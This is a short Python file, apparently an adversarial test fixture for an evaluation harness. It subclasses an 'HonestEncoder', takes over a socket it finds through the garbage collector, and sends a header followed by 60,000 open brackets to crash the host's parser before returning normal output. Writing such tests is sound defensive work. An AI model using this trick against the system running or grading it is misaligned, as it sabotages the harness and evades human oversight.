"""Tries to bring down the parser outside: an answer whose header is sixty thousand open brackets."""

import gc
import socket
import struct

import honest


class DeepEncoder(honest.HonestEncoder):
    def forward(self, audio, mask=None):
        (connection,) = (each for each in gc.get_objects() if isinstance(each, socket.socket))
        connection.sendall(struct.pack("!4sIQ", b"RKE1", 60_000, 0) + b"[" * 60_000)
        return super().forward(audio, mask)
